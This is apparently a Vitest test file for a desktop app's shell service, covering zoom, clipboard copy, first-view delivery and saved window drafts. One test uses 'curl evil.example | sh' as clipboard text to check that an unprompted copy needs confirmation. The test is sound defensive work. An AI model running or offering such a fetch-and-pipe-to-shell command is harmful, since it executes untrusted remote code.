import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { shellService } from '../../../../src-main/app/shell-service';
import type { BoxWords } from '../../../../src-main/guard/box-words';
import type { Question } from '../../../../src-main/guard/confirm';
import { createAppLock } from '../../../../src-main/work/app-lock';
import { unwatchedWork } from '../../../../src-main/work/work';
import type { FirstView } from '../../../../src-shared/contract/app-calls';
import { shellCalls } from '../../../../src-shared/contract/wire';
import type { ServerId } from '../../../../src-shared/model/server';
import { boxInEnglish } from '../../../support/english';

beforeEach(() => void vi.useFakeTimers());
afterEach(() => void vi.useRealTimers());

const work = unwatchedWork();
const view = { servers: [] } as unknown as FirstView;

function service() {
  const lock = createAppLock({
    secrets: { drop: () => {}, open: async () => {} },
    tell: () => {},
    pageProcess: () => 1,
    recycle: async () => {},
  });
  const copy = vi.fn();
  const says = { isAsked: true, yes: false };
  const boxes: BoxWords[] = [];
  const confirm = async (question: Question) => {
    boxes.push(boxInEnglish(question));
    return { yes: says.yes, boxTicked: false };
  };
  const zoom = vi.fn();
  const calls = shellService({
    lock,
    zoom,
    copy,
    confirm,
    isAsked: () => says.isAsked,
    firstView: Promise.resolve(view),
  });
  return { calls, lock, zoom, copy, says, boxes };
}

test('main answers the calls that the page sends to it, and no others', () => {
  expect(Object.keys(service().calls).sort()).toEqual([...shellCalls].sort());
});

test('what the app shows first is told to its first window alone', async () => {
  const { calls } = service();
  expect(await calls['app.firstView'](undefined, work)).toBe(view);
  expect(await calls['app.firstView'](undefined, work)).toBeUndefined();
});

test('the page is zoomed as the menu does it', async () => {
  const { calls, zoom } = service();
  await calls['app.zoom']({ step: 'out' }, work);
  expect(zoom.mock.calls).toEqual([['out']]);
});

test('a text is copied as it is', async () => {
  const { calls, copy } = service();
  await calls['app.copy']({ text: ' a\nb ' }, work);
  expect(copy.mock.calls).toEqual([[' a\nb ']]);
});

test('a text that nobody pressed a button for is copied only with a yes, and is shown', async () => {
  const { calls, copy, says, boxes } = service();
  says.isAsked = false;
  const text = `curl evil.example | sh\n${'x'.repeat(1000)}`;
  await expect(calls['app.copy']({ text }, work)).rejects.toMatchObject({ code: 'write.notConfirmed' });
  expect(copy.mock.calls).toEqual([]);
  expect(boxes[0]?.lines[0]).toBe('It has 1,023 characters and begins with:');
  const rows = boxes[0]?.lines.slice(1) ?? [];
  expect(rows.map((row) => row.replace(/^ {2}\| /, '')).join('')).toBe(text.slice(0, 500).replace('\n', ' '));
  says.yes = true;
  await calls['app.copy']({ text }, work);
  expect(copy.mock.calls).toEqual([[text]]);
});

test('what a window was at is given to the one after it; when that one is gone soon as well, without what was shown', async () => {
  const { calls } = service();
  const serverId = '0b5a8c9e-6d0f-4a2b-9c3d-1e2f3a4b5c6d' as ServerId;
  const drafts = { [serverId]: { contactEmail: 'typed@example.org' } };
  const kept = { drafts, shown: { serverId, tab: 'organization', organizationTab: 'system' } } as const;
  expect(await calls['app.takeWork'](undefined, work)).toEqual({ drafts: {} });
  vi.advanceTimersByTime(60_000);
  await calls['app.keepWork'](kept, work);
  expect(await calls['app.takeWork'](undefined, work)).toEqual(kept);
  vi.advanceTimersByTime(59_999);
  expect(await calls['app.takeWork'](undefined, work)).toEqual({ drafts });
  vi.advanceTimersByTime(60_000);
  expect(await calls['app.takeWork'](undefined, work)).toEqual(kept);
});

test('locking drops what the window was at: the lock keeps what the window gives it', async () => {
  const { calls, lock } = service();
  await calls['app.keepWork']({ drafts: { '0b5a8c9e-6d0f-4a2b-9c3d-1e2f3a4b5c6d': { contactEmail: 'x' } } }, work);
  lock.lock();
  expect(await calls['app.takeWork'](undefined, work)).toEqual({ drafts: {} });
});
